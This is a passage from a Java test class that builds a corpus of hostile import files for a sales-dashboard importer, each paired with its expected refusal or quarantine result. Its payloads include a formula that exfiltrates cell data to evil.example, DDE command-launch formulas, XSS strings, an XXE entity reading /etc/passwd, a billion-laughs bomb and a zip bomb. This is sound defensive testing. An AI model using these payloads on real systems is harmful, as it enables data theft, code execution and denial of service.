package fr.impact.dashboard.hostile;

import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.BufferedOutputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.Charset;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.Set;
import java.util.function.Consumer;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.crypt.Encryptor;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.xssf.usermodel.XSSFRow;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;

/**
 * Hostile input files, each with what must happen to it (FORMATS.md): refused as a whole
 * with a code, or loaded with so many rows accepted and so many quarantined, with these
 * codes. Every file is generated at test time; none is committed.
 *
 * <p>Expected numbers are counted by hand from the rows written below, never copied from
 * the importer's output. "Today" is the real date: every valid date here is in 2024.
 */
public final class HostileCorpus {

    /** What happens to the file as a whole. */
    public enum Outcome { REFUSED, LOADED }

    /**
     * A query whose single value checks what was stored; its one parameter is the import id.
     * Values are compared as text.
     */
    public record Probe(String sql, String expected) {}

    /**
     * The expected outcome.
     *
     * @param error for REFUSED: the file code
     * @param accepted rows written
     * @param rejected rows quarantined
     * @param rejections the distinct codes of the rejections
     * @param warnings the distinct codes of the warnings
     */
    public record Expected(Outcome outcome, String error, long accepted, long rejected, Set<String> rejections,
            Set<String> warnings, Optional<Probe> probe) {

        static Expected refused(String code) {
            return new Expected(Outcome.REFUSED, code, 0, 0, Set.of(), Set.of(), Optional.empty());
        }

        static Expected loaded(long accepted) {
            return new Expected(Outcome.LOADED, null, accepted, 0, Set.of(), Set.of(), Optional.empty());
        }

        Expected rejected(long rows, String... codes) {
            return new Expected(outcome, error, accepted, rows, Set.of(codes), warnings, probe);
        }

        Expected warned(String... codes) {
            return new Expected(outcome, error, accepted, rejected, rejections, Set.of(codes), probe);
        }

        Expected stored(String sql, String value) {
            return new Expected(outcome, error, accepted, rejected, rejections, warnings,
                    Optional.of(new Probe(sql, value)));
        }

        /** One line for tables: {@code REFUSED MISSING_COLUMN} or {@code LOADED 2 + 1 [CODE]}. */
        public String summary() {
            if (outcome == Outcome.REFUSED) {
                return "REFUSED " + error;
            }
            StringBuilder s = new StringBuilder("LOADED ").append(accepted).append(" acceptée(s)");
            if (rejected > 0) {
                s.append(", ").append(rejected).append(" rejetée(s) ").append(new java.util.TreeSet<>(rejections));
            }
            if (!warnings.isEmpty()) {
                s.append(", avertissements ").append(new java.util.TreeSet<>(warnings));
            }
            return s.toString();
        }
    }

    /** Writes a file's bytes. */
    @FunctionalInterface
    public interface Content {
        void write(OutputStream out) throws IOException;
    }

    /**
     * One hostile file.
     *
     * @param name the file's name on disk (what the command line reports)
     * @param kind the {@code ingest} kind
     * @param what what is hostile in it, for the documentation
     * @param upload how the upload names it: the {@code filename} parameter of the multipart
     *     part, as sent ({@code filename="…"} or {@code filename*=…})
     * @param storedName the name the server must record for the upload
     * @param large a file of 100 MB or more
     */
    public record Entry(String name, String kind, String what, Expected expected, Content content, String upload,
            String storedName, boolean large, String uploadError) {

        public Entry(String name, String kind, String what, Expected expected, Content content, String upload,
                String storedName, boolean large) {
            this(name, kind, what, expected, content, upload, storedName, large, null);
        }

        public Path write(Path dir) throws IOException {
            Path file = dir.resolve(name);
            try (OutputStream out = new BufferedOutputStream(Files.newOutputStream(file), 1 << 16)) {
                content.write(out);
            }
            return file;
        }

        /**
         * An upload the server refuses before importing it (HTTP 400 with this error code):
         * nothing is imported, nothing recorded.
         */
        Entry uploadRefused(String code) {
            return new Entry(name, kind, what, expected, content, upload, storedName, large, code);
        }
    }

    static final String H = "date;facture;ligne;client_id;producteur_id;produit;famille;quantite;unite;montant_ht";
    static final String H_FULL = "date;facture;ligne;client_id;client_nom;client_type;producteur_id;producteur_nom;"
            + "produit;produit_code;famille;quantite;unite;prix_unitaire_ht;montant_ht;labels;origine";
    static final String PRODUCERS = "producteur_id;nom;commune_insee;siret;latitude;longitude;bio";
    static final String ACHATS = "siret,description,fournisseur,date,prix_ht,famille_produits,categories_egalim,"
            + "origine,est_circuit_court,est_local,definition_local,definition_local_km";
    static final String PRODUITS = "SELECT string_agg(produit, '|' ORDER BY source_line) FROM sale_lines WHERE import_id = ?";
    static final String SOURCE_LINES = "SELECT string_agg(source_line::VARCHAR, '|' ORDER BY source_line) "
            + "FROM sale_lines WHERE import_id = ?";
    static final String MONTANTS = "SELECT string_agg(montant_ht::VARCHAR, '|' ORDER BY source_line) "
            + "FROM sale_lines WHERE import_id = ?";

    private HostileCorpus() {}

    /** A valid sales row of {@link #H}: 10 kg of carrots for 25,00 €. */
    static String ok(String facture, int ligne) {
        return row(facture, ligne, "Carottes", "10", "25,00");
    }

    static String row(String facture, int ligne, String produit, String quantite, String montant) {
        return "15/03/2024;" + facture + ";" + ligne + ";C1;P1;" + produit + ";FRUITS_ET_LEGUMES;" + quantite + ";kg;"
                + montant;
    }

    /** The whole corpus, in a stable order. */
    public static List<Entry> all() {
        List<Entry> all = new ArrayList<>();
        all.addAll(sales());
        all.addAll(salesXlsx());
        all.addAll(uploadNames());
        all.addAll(reference());
        all.addAll(funding());
        all.addAll(achats());
        Set<String> names = new java.util.HashSet<>();
        for (Entry e : all) {
            if (!names.add(e.name())) {
                throw new IllegalStateException("two corpus files named " + e.name());
            }
        }
        return List.copyOf(all);
    }

    // ---------------------------------------------------------------- sales, CSV

    static List<Entry> sales() {
        List<Entry> l = new ArrayList<>();
        l.add(sales("binaire.csv", "4 Kio d'octets aléatoires, dont des octets nuls",
                Expected.refused("NOT_A_TABLE"), out -> {
                    byte[] b = new byte[4096];
                    new Random(42).nextBytes(b);
                    b[0] = 0;
                    out.write(b);
                }));
        l.add(sales("binaire-sans-nul.csv", "4 Kio d'octets aléatoires 0x01–0xFF sans octet nul ni fin de ligne",
                Expected.refused("MIXED_ENCODING"), out -> {
                    Random r = new Random(7);
                    for (int i = 0; i < 4096; i++) {
                        int b;
                        do {
                            b = 1 + r.nextInt(255);
                        } while (b == '\n' || b == '\r' || b == '"');
                        out.write(b);
                    }
                }));
        l.add(sales("archive-zip.csv", "une archive ZIP qui n'est pas un classeur, nommée .csv",
                Expected.refused("UNREADABLE"), out -> zip(out, Map.of("photo.txt", "pas un classeur"))));
        l.add(sales("page-html.csv", "une page HTML enregistrée sous .csv (pas d'en-tête reconnu)",
                Expected.refused("MISSING_COLUMN"),
                text("<!DOCTYPE html>\n<html><head><title>Erreur 500</title></head>\n<body><p>Session expirée</p></body></html>\n")));
        l.add(sales("vide.csv", "un fichier de 0 octet", Expected.refused("EMPTY_FILE"), out -> { }));
        l.add(sales("lignes-blanches.csv", "des lignes blanches seulement (espaces, tabulations, CRLF)",
                Expected.refused("EMPTY_FILE"), text("\n   \n\t\r\n\r\n")));
        l.add(sales("en-tete-seul.csv", "l'en-tête, aucune ligne", Expected.refused("EMPTY_FILE"), text(H + "\n")));
        l.add(sales("en-tete-et-cellules-vides.csv", "l'en-tête puis des lignes de cellules vides",
                Expected.refused("EMPTY_FILE"), text(H + "\n;;;;;;;;;\n;;;;;;;;;\n")));
        l.add(sales("en-tete-sans-nom.csv", "un en-tête de cellules vides",
                Expected.refused("MISSING_COLUMN"), text(";;;;;;;;;\n" + ok("F1", 1) + "\n")));
        // header line 1, F1/1 line 2, a million empty lines 3..1 000 002, F1/2 line 1 000 003
        l.add(sales("million-lignes-vides.csv", "un million de lignes vides entre deux lignes valides",
                Expected.loaded(2).warned("EMPTY_ROWS_SKIPPED").stored(SOURCE_LINES, "2|1000003"), out -> {
                    out.write((H + "\n" + ok("F1", 1) + "\n").getBytes(UTF_8));
                    byte[] empty = new byte[1_000_000];
                    Arrays.fill(empty, (byte) '\n');
                    out.write(empty);
                    out.write((ok("F1", 2) + "\n").getBytes(UTF_8));
                }));
        l.add(new Entry("ligne-100-mo.csv", "sales", "une ligne de 100 Mio (sans fin de ligne)",
                Expected.refused("RECORD_TOO_LARGE"), out -> {
                    out.write((H + "\n15/03/2024;F1;1;C1;P1;").getBytes(UTF_8));
                    byte[] chunk = new byte[1 << 20];
                    Arrays.fill(chunk, (byte) 'x');
                    for (int i = 0; i < 100; i++) {
                        out.write(chunk);
                    }
                }, "filename=\"ligne-100-mo.csv\"", "ligne-100-mo.csv", true));
        l.add(sales("10000-colonnes.csv", "un en-tête de 10 000 colonnes", Expected.refused("TOO_MANY_COLUMNS"), out -> {
            StringBuilder s = new StringBuilder(H);
            for (int i = 11; i <= 10_000; i++) {
                s.append(";c").append(i);
            }
            out.write(s.append('\n').append(ok("F1", 1)).append('\n').toString().getBytes(UTF_8));
        }));
        // line 3: 10 values then 9 990 empty cells = 10 000 cells against a header of 10
        l.add(sales("10000-cellules.csv", "une ligne de 10 000 cellules sous un en-tête de 10",
                Expected.loaded(1).rejected(1, "CELL_COUNT"),
                text(H + "\n" + ok("F1", 1) + "\n" + ok("F2", 1) + ";".repeat(9_990) + "\n")));
        l.add(sales("utf8-invalide.csv", "de l'UTF-8 (Pâté) puis, ligne 3, des octets 0xFF 0xFE invalides",
                Expected.refused("MIXED_ENCODING"), bytes(
                        (H + "\n" + row("F1", 1, "Pâté", "1", "5,00") + "\n").getBytes(UTF_8),
                        row("F2", 1, "Carottes ", "1", "5,00").getBytes(UTF_8), new byte[] {(byte) 0xFF, (byte) 0xFE},
                        "\n".getBytes(UTF_8))));
        l.add(sales("encodages-melanges.csv", "ligne 2 en UTF-8 (Pâté), ligne 3 en Windows-1252 (Crème)",
                Expected.refused("MIXED_ENCODING"), bytes(
                        (H + "\n" + row("F1", 1, "Pâté", "1", "5,00") + "\n").getBytes(UTF_8),
                        (row("F2", 1, "Crème", "1", "5,00") + "\n").getBytes(Charset.forName("windows-1252")))));
        l.add(sales("surrogate-cesu.csv", "de l'UTF-8 (Œufs) et un demi-substitut U+D800 codé en CESU-8 (ED A0 80)",
                Expected.refused("MIXED_ENCODING"), bytes(
                        (H + "\n" + row("F1", 1, "Œufs", "1", "5,00") + "\n" + "15/03/2024;F2;1;C1;P1;Carottes ")
                                .getBytes(UTF_8),
                        new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                        ";FRUITS_ET_LEGUMES;1;kg;5,00\n".getBytes(UTF_8))));
        l.add(sales("windows-1252.csv", "un export Windows-1252 bien formé (témoin)",
                Expected.loaded(2).stored(PRODUITS, "Pâté|Crème brûlée"),
                text(H + "\n" + row("F1", 1, "Pâté", "1", "5,00") + "\n" + row("F1", 2, "Crème brûlée", "1", "5,00")
                        + "\n", Charset.forName("windows-1252"))));
        l.add(sales("utf16le-tabulations.csv", "UTF-16LE avec BOM, séparé par des tabulations (« texte Unicode » d'Excel)",
                Expected.loaded(2).stored(PRODUITS, "Œufs|Pâté"), bytes(new byte[] {(byte) 0xFF, (byte) 0xFE},
                        (H + "\n" + row("F1", 1, "Œufs", "1", "5,00") + "\n" + row("F1", 2, "Pâté", "1", "5,00") + "\n")
                                .replace(';', '\t').getBytes(UTF_16LE))));
        l.add(sales("utf16-sans-bom.csv", "UTF-16LE sans BOM (un octet nul sur deux)", Expected.refused("NOT_A_TABLE"),
                text(H + "\n" + ok("F1", 1) + "\n", UTF_16LE)));
        l.add(sales("octets-nuls.csv", "un fichier valide avec un octet nul dans un libellé",
                Expected.refused("NOT_A_TABLE"), text(H + "\n" + row("F1", 1, "Caro\u0000ttes", "1", "5,00") + "\n")));
        l.add(sales("formules-texte.csv", "injection de formules dans les textes : =HYPERLINK(…), +cmd|…, @SUM, -2+3",
                Expected.loaded(3).stored(
                        "SELECT string_agg(client_nom || '¦' || producteur_nom || '¦' || produit || '¦' || produit_code, "
                                + "'|' ORDER BY source_line) FROM sale_lines WHERE import_id = ?",
                        "=HYPERLINK(\"http://evil.example/?d=\"&A1;\"Cliquez\")¦+cmd|' /C calc'!A0¦@SUM(1+1)*cmd|' /C calc'!A0¦-2+3"
                                + "|=1+1¦-2+3¦+33 6 00 00 00 00¦=cmd|'/c notepad'!A1"
                                + "|@SUM(A1:A9)¦=DDE(\"cmd\";\"/c calc\";\"x\")¦Navets¦=2+5"),
                text(H_FULL + "\n"
                        + "15/03/2024;F1;1;C1;\"=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1;\"\"Cliquez\"\")\";;P1;"
                        + "+cmd|' /C calc'!A0;@SUM(1+1)*cmd|' /C calc'!A0;-2+3;FRUITS_ET_LEGUMES;1;kg;;5,00;;\n"
                        + "15/03/2024;F1;2;C1;=1+1;;P1;-2+3;+33 6 00 00 00 00;=cmd|'/c notepad'!A1;"
                        + "FRUITS_ET_LEGUMES;1;kg;;5,00;;\n"
                        + "15/03/2024;F1;3;C1;@SUM(A1:A9);;P1;\"=DDE(\"\"cmd\"\";\"\"/c calc\"\";\"\"x\"\")\";Navets;"
                        + "\"\t=2+5\";FRUITS_ET_LEGUMES;1;kg;;5,00;;\n")));
        // lines 2, 3, 4 rejected (NUMBER_FORMAT), line 5 accepted: "+25,00" is a signed number
        l.add(sales("formules-nombres.csv", "formules dans les nombres : =2+3, -2+3, @SUM(A1:A2), et +25,00 (valide)",
                Expected.loaded(1).rejected(3, "NUMBER_FORMAT").stored(MONTANTS, "25.00"),
                text(H + "\n" + row("F1", 1, "Carottes", "=2+3", "25,00") + "\n"
                        + row("F1", 2, "Carottes", "10", "-2+3") + "\n"
                        + row("F1", 3, "Carottes", "@SUM(A1:A2)", "25,00") + "\n"
                        + row("F1", 4, "Carottes", "10", "+25,00") + "\n")));
        l.add(sales("html-script.csv", "HTML et <script> dans les noms et dans une valeur rejetée",
                Expected.loaded(2).rejected(1, "UNKNOWN_FAMILY").stored(
                        "SELECT string_agg(client_nom || '¦' || produit, '|' ORDER BY source_line) FROM sale_lines "
                                + "WHERE import_id = ?",
                        "<script>alert('client')</script>¦<img src=x onerror=alert(1)>"
                                + "|</td><b>gras</b>¦<iframe src=\"javascript:alert(2)\">"),
                text(H_FULL + "\n"
                        + "15/03/2024;F1;1;C1;<script>alert('client')</script>;;P1;;<img src=x onerror=alert(1)>;;"
                        + "FRUITS_ET_LEGUMES;1;kg;;5,00;;\n"
                        + "15/03/2024;F1;2;C1;</td><b>gras</b>;;P1;;<iframe src=\"javascript:alert(2)\">;;"
                        + "FRUITS_ET_LEGUMES;1;kg;;5,00;;\n"
                        + "15/03/2024;F1;3;C1;Cantine;;P1;;Navets;;<script>alert(3)</script>;1;kg;;5,00;;\n")));
        l.add(sales("nombre-1e309.csv", "montants 1e309 et 1E3 (exposants)",
                Expected.loaded(1).rejected(2, "NUMBER_FORMAT"),
                text(H + "\n" + row("F1", 1, "Carottes", "10", "1e309") + "\n" + row("F1", 2, "Carottes", "10", "1E3")
                        + "\n" + ok("F1", 3) + "\n")));
        l.add(sales("nombre-nan-infinity.csv", "NaN, Infinity, -Infinity, ∞",
                Expected.loaded(1).rejected(4, "NUMBER_FORMAT"),
                text(H + "\n" + row("F1", 1, "Carottes", "10", "NaN") + "\n"
                        + row("F1", 2, "Carottes", "Infinity", "25,00") + "\n"
                        + row("F1", 3, "Carottes", "-1", "-Infinity") + "\n"
                        + row("F1", 4, "Carottes", "∞", "25,00") + "\n" + ok("F1", 5) + "\n")));
        // "-0" is zero: a zero quantity is rejected, a zero amount is valid (free goods)
        l.add(sales("moins-zero.csv", "-0 en quantité (rejeté : nulle) et en montant (0,00 : gratuit)",
                Expected.loaded(2).rejected(1, "ZERO_QUANTITY").stored(MONTANTS, "0.00|0.00"),
                text(H + "\n" + row("F1", 1, "Carottes", "-0", "25,00") + "\n" + row("F1", 2, "Carottes", "10", "-0")
                        + "\n" + row("F1", 3, "Carottes", "5", "-0,00") + "\n")));
        l.add(sales("chiffres-arabes.csv", "chiffres arabes-indiens ٣, ١٢٫٥٠, ligne ٢ et persans ۳",
                Expected.loaded(1).rejected(4, "NUMBER_FORMAT", "LINE_NUMBER"),
                text(H + "\n" + row("F1", 1, "Carottes", "٣", "25,00") + "\n" + row("F1", 2, "Carottes", "10", "١٢٫٥٠")
                        + "\n15/03/2024;F1;٢;C1;P1;Carottes;FRUITS_ET_LEGUMES;10;kg;25,00\n"
                        + row("F1", 4, "Carottes", "۳", "25,00") + "\n" + ok("F1", 5) + "\n")));
        l.add(sales("chiffres-pleine-largeur.csv", "chiffres pleine largeur １２ et ２５，００",
                Expected.loaded(1).rejected(2, "NUMBER_FORMAT"),
                text(H + "\n" + row("F1", 1, "Carottes", "１２", "25,00") + "\n" + row("F1", 2, "Carottes", "10", "２５，００")
                        + "\n" + ok("F1", 3) + "\n")));
        // valid: 1 234,56 with a space, a no-break space, a narrow no-break space; "1 23,4" is not
        l.add(sales("milliers-insecables.csv", "1 234,56 avec espace, espace insécable, espace fine ; 1 23,4 invalide",
                Expected.loaded(3).rejected(1, "NUMBER_FORMAT").stored(
                        "SELECT string_agg(quantite::VARCHAR || ':' || montant_ht::VARCHAR, '|' ORDER BY source_line) "
                                + "FROM sale_lines WHERE import_id = ?",
                        "1000.000:1234.56|10.000:1234.56|10.000:1234.56"),
                text(H + "\n" + row("F1", 1, "Carottes", "1\u202F000", "1 234,56") + "\n"
                        + row("F1", 2, "Carottes", "10", "1\u00A0234,56") + "\n"
                        + row("F1", 3, "Carottes", "10", "1\u202F234,56 €") + "\n"
                        + row("F1", 4, "Carottes", "10", "1 23,4") + "\n")));
        l.add(sales("nombres-hors-limites.csv", "montant 10^16, montant de 401 chiffres, ligne 99999999999, quantité 0,0001",
                Expected.loaded(1).rejected(4, "NUMBER_TOO_LARGE", "LINE_NUMBER", "ZERO_QUANTITY"),
                text(H + "\n" + row("F1", 1, "Carottes", "10", "10000000000000000") + "\n"
                        + row("F1", 2, "Carottes", "10", "1" + "0".repeat(400)) + "\n"
                        + "15/03/2024;F1;99999999999;C1;P1;Carottes;FRUITS_ET_LEGUMES;10;kg;25,00\n"
                        + row("F1", 4, "Carottes", "0,0001", "25,00") + "\n" + ok("F1", 5) + "\n")));
        l.add(sales("dates-impossibles.csv",
                "00/00/0000, 31/02/2024, 2024-13-01, 01/01/0001, 31/12/9999, 29/02/2023, 2024-02-30, 45366 ; 29/02/2024 valide",
                Expected.loaded(1).rejected(8, "DATE_FORMAT").stored(
                        "SELECT string_agg(date::VARCHAR, '|') FROM sale_lines WHERE import_id = ?", "2024-02-29"),
                out -> {
                    StringBuilder s = new StringBuilder(H).append('\n');
                    String[] dates = {"00/00/0000", "31/02/2024", "2024-13-01", "01/01/0001", "31/12/9999",
                        "29/02/2023", "2024-02-30", "45366", "29/02/2024"};
                    for (int i = 0; i < dates.length; i++) {
                        s.append(dates[i]).append(";F1;").append(i + 1)
                                .append(";C1;P1;Carottes;FRUITS_ET_LEGUMES;10;kg;25,00\n");
                    }
                    out.write(s.toString().getBytes(UTF_8));
                }));
        l.add(sales("date-futur.csv", "une livraison le 01/01/2099", Expected.loaded(1).rejected(1, "DATE_IN_FUTURE"),
                text(H + "\n01/01/2099;F1;1;C1;P1;Carottes;FRUITS_ET_LEGUMES;10;kg;25,00\n" + ok("F1", 2) + "\n")));
        l.add(sales("en-tetes-en-double.csv", "montant_ht et « Montant HT » dans le même en-tête",
                Expected.refused("DUPLICATE_COLUMN"), text(H + ";Montant HT\n" + ok("F1", 1) + ";25,00\n")));
        l.add(sales("en-tetes-alias-en-double.csv", "quantite et son alias « Qté » dans le même en-tête",
                Expected.refused("DUPLICATE_COLUMN"),
                text("date;facture;ligne;client_id;producteur_id;produit;famille;quantite;Qté;unite;montant_ht\n"
                        + "15/03/2024;F1;1;C1;P1;Carottes;FRUITS_ET_LEGUMES;10;10;kg;25,00\n")));
        l.add(sales("colonnes-inconnues-en-double.csv", "deux colonnes inconnues de même nom",
                Expected.loaded(2).warned("UNKNOWN_COLUMN"),
                text(H + ";commentaire;commentaire\n" + ok("F1", 1) + ";a;b\n" + ok("F1", 2) + ";;\n")));
        // two exports glued together: the second header (with its BOM) is line 3, a data row;
        // its values: date "\uFEFFdate", ligne "ligne", famille "famille", quantite and
        // montant_ht not numbers; "unite" is a valid unit (unité = piece)
        l.add(sales("bom-au-milieu.csv", "deux exports UTF-8 avec BOM mis bout à bout : un BOM et un en-tête ligne 3",
                Expected.loaded(2).rejected(1, "DATE_FORMAT", "LINE_NUMBER", "UNKNOWN_FAMILY", "NUMBER_FORMAT")
                        .stored(SOURCE_LINES, "2|4"),
                bytes(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, (H + "\n" + ok("F1", 1) + "\n").getBytes(UTF_8),
                        new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, (H + "\n" + ok("F2", 1) + "\n").getBytes(UTF_8))));
        l.add(sales("fins-de-ligne-cr.csv", "fins de ligne CR seules (ancien Mac), une ligne fautive ligne 3",
                Expected.loaded(2).rejected(1, "NUMBER_FORMAT").stored(SOURCE_LINES, "2|4"),
                text(H + "\r" + ok("F1", 1) + "\r" + row("F1", 2, "Carottes", "10", "12,5O") + "\r" + ok("F1", 3) + "\r")));
        l.add(sales("guillemet-non-ferme-fin.csv", "un guillemet ouvert ligne 4 jamais fermé, en fin de fichier",
                Expected.refused("UNCLOSED_QUOTE"), text(H + "\n" + ok("F1", 1) + "\n" + ok("F1", 2) + "\n"
                        + "15/03/2024;F1;3;C1;P1;\"Carottes;FRUITS_ET_LEGUMES;10;kg;25,00\n")));
        l.add(sales("guillemet-non-ferme-milieu.csv", "un guillemet ouvert ligne 3 jamais fermé, 20 lignes valides après",
                Expected.refused("UNCLOSED_QUOTE"), out -> {
                    StringBuilder s = new StringBuilder(H).append('\n').append(ok("F1", 1)).append('\n')
                            .append("15/03/2024;F1;2;C1;P1;\"Carottes;FRUITS_ET_LEGUMES;10;kg;25,00\n");
                    for (int i = 3; i <= 22; i++) {
                        s.append(ok("F1", i)).append('\n');
                    }
                    out.write(s.toString().getBytes(UTF_8));
                }));
        l.add(sales("guillemet-dans-un-champ.csv", "des guillemets dans des champs non entourés de guillemets",
                Expected.loaded(3).stored(PRODUITS, "Pommes 5\" golden|Tomates \"cœur de bœuf\"|Carottes bio"),
                text(H + "\n" + row("F1", 1, "Pommes 5\" golden", "1", "5,00") + "\n"
                        + row("F1", 2, "Tomates \"cœur de bœuf\"", "1", "5,00") + "\n"
                        + row("F1", 3, "\"Carottes\" bio", "1", "5,00") + "\n")));
        l.add(sales("csv-nomme.xlsx", "un CSV nommé .xlsx", Expected.loaded(1), text(H + "\n" + ok("F1", 1) + "\n")));
        l.add(sales("texte-1-mo.csv", "une cellule de 1 000 000 de caractères",
                Expected.loaded(1).rejected(1, "TEXT_TOO_LONG"),
                text(H + "\n" + row("F1", 1, "x".repeat(1_000_000), "1", "5,00") + "\n" + ok("F1", 2) + "\n")));
        l.add(sales("caracteres-de-controle.csv", "caractères de contrôle et séquences d'échappement ANSI dans les textes",
                Expected.loaded(2).rejected(1, "UNKNOWN_FAMILY")
                        .stored(PRODUITS, "Ca\u0001ro\u0007tt\u000Bes\u000C!|Rouge \u001B[31mvif\u001B[0m\u0085"),
                text(H + "\n" + row("F1", 1, "Ca\u0001ro\u0007tt\u000Bes\u000C!", "1", "5,00") + "\n"
                        + row("F1", 2, "Rouge \u001B[31mvif\u001B[0m\u0085", "1", "5,00") + "\n"
                        + "15/03/2024;F1;3;C1;P1;Navets;\u001B[2J\u001B[HFRUITS;1;kg;5,00\n")));
        l.add(sales("rtl-override.csv", "caractères de contrôle bidirectionnel (U+202E, U+2066…) dans les noms",
                Expected.loaded(2).stored(PRODUITS, "\u202Eslettob 6\u202C|Navets \u2066\u202Ecod.exe\u2069"),
                text(H + "\n" + row("F1", 1, "\u202Eslettob 6\u202C", "1", "5,00") + "\n"
                        + row("F1", 2, "Navets \u2066\u202Ecod.exe\u2069", "1", "5,00") + "\n")));
        l.add(sales("emoji.csv", "émojis (dont une séquence ZWJ) dans les libellés et une famille 🍎",
                Expected.loaded(2).rejected(1, "UNKNOWN_FAMILY").stored(PRODUITS, "Carottes 🥕|Œufs 🥚 de 👨‍🌾"),
                text(H + "\n" + row("F1", 1, "Carottes 🥕", "1", "5,00") + "\n" + row("F1", 2, "Œufs 🥚 de 👨‍🌾", "1", "5,00")
                        + "\n15/03/2024;F1;3;C1;P1;Pommes;🍎;1;kg;5,00\n")));
        l.add(sales("delimiteurs-melanges.csv", "en-tête séparé par ; et lignes séparées par ,",
                Expected.loaded(0).rejected(2, "CELL_COUNT"),
                text(H + "\n" + ok("F1", 1).replace(';', ',').replace("25,00", "25.00") + "\n"
                        + ok("F1", 2).replace(';', ',').replace("25,00", "25.00") + "\n")));
        l.add(sales("cles-en-double.csv", "la même facture et la même ligne deux fois",
                Expected.loaded(1).rejected(2, "DUPLICATE_KEY"),
                text(H + "\n" + ok("F1", 1) + "\n" + ok("F2", 1) + "\n" + row("F1", 1, "Navets", "2", "3,00") + "\n")));
        l.add(sales("xls-97.xls", "un vrai classeur Excel 97-2003 (.xls)", Expected.refused("XLS_NOT_SUPPORTED"), out -> {
            try (HSSFWorkbook wb = new HSSFWorkbook()) {
                wb.createSheet("Ventes").createRow(0).createCell(0).setCellValue("date");
                wb.write(out);
            }
        }));
        return l;
    }

    // ---------------------------------------------------------------- sales, XLSX

    static List<Entry> salesXlsx() {
        List<Entry> l = new ArrayList<>();
        String[] header = H.split(";");
        l.add(sales("xlsx-nomme.csv", "un classeur XLSX nommé .csv", Expected.loaded(2).stored(PRODUITS, "Carottes|Navets"),
                workbook(wb -> {
                    XSSFSheet s = wb.createSheet("Ventes");
                    cells(s, 0, header);
                    cells(s, 1, row("F1", 1, "Carottes", "10", "25,00").split(";"));
                    cells(s, 2, row("F1", 2, "Navets", "10", "25,00").split(";"));
                })));
        l.add(sales("xlsx-tronque.xlsx", "un classeur coupé à la moitié", Expected.refused("UNREADABLE"), out -> {
            ByteArrayOutputStream whole = new ByteArrayOutputStream();
            workbook(wb -> {
                XSSFSheet s = wb.createSheet("Ventes");
                cells(s, 0, header);
                for (int i = 1; i <= 300; i++) {
                    cells(s, i, ok("F1", i).split(";"));
                }
            }).write(whole);
            byte[] b = whole.toByteArray();
            out.write(b, 0, b.length / 2);
        }));
        l.add(sales("xlsx-bombe-zip.xlsx", "une feuille de 100 Mio d'espaces compressée en 100 Kio (bombe ZIP)",
                Expected.refused("UNREADABLE"), out -> {
                    Map<String, String> parts = parts("");
                    parts.remove(SHEET);
                    try (ZipOutputStream zip = new ZipOutputStream(out)) {
                        for (var p : parts.entrySet()) {
                            zip.putNextEntry(new ZipEntry(p.getKey()));
                            zip.write(p.getValue().getBytes(UTF_8));
                            zip.closeEntry();
                        }
                        zip.putNextEntry(new ZipEntry(SHEET));
                        zip.write(("<worksheet xmlns=\"" + MAIN + "\"><sheetData>").getBytes(UTF_8));
                        byte[] spaces = new byte[1 << 20];
                        Arrays.fill(spaces, (byte) ' ');
                        for (int i = 0; i < 100; i++) {
                            zip.write(spaces);
                        }
                        zip.write("</sheetData></worksheet>".getBytes(UTF_8));
                        zip.closeEntry();
                    }
                }));
        l.add(sales("xlsx-bombe-xml.xlsx", "des entités XML imbriquées (« billion laughs »)", Expected.refused("UNREADABLE"),
                handWritten("<!DOCTYPE lolz [<!ENTITY lol \"lol\">"
                        + "<!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">"
                        + "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">"
                        + "<!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">"
                        + "<!ENTITY lol5 \"&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;\">"
                        + "<!ENTITY lol6 \"&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;\">]>",
                        inlineRow(1, header) + "<row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is><t>&lol6;</t></is></c></row>")));
        l.add(sales("xlsx-xxe.xlsx", "une entité externe XML (XXE) vers /etc/passwd", Expected.refused("UNREADABLE"),
                handWritten("<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
                        inlineRow(1, header) + "<row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is><t>&xxe;</t></is></c></row>")));
        l.add(sales("xlsx-chiffre.xlsx", "un classeur protégé par un mot de passe (chiffrement agile)",
                Expected.refused("PASSWORD_PROTECTED"), out -> {
                    ByteArrayOutputStream plain = new ByteArrayOutputStream();
                    workbook(wb -> {
                        XSSFSheet s = wb.createSheet("Ventes");
                        cells(s, 0, header);
                        cells(s, 1, ok("F1", 1).split(";"));
                    }).write(plain);
                    try (POIFSFileSystem fs = new POIFSFileSystem()) {
                        Encryptor enc = new EncryptionInfo(EncryptionMode.agile).getEncryptor();
                        enc.confirmPassword("mot-de-passe");
                        try (OutputStream os = enc.getDataStream(fs)) {
                            os.write(plain.toByteArray());
                        } catch (java.security.GeneralSecurityException e) {
                            throw new IOException(e);
                        }
                        fs.writeFilesystem(out);
                    }
                }));
        l.add(sales("xlsx-deux-feuilles.xlsx", "deux feuilles : seule la première est lue",
                Expected.loaded(2).stored(PRODUITS, "Carottes|Navets"), workbook(wb -> {
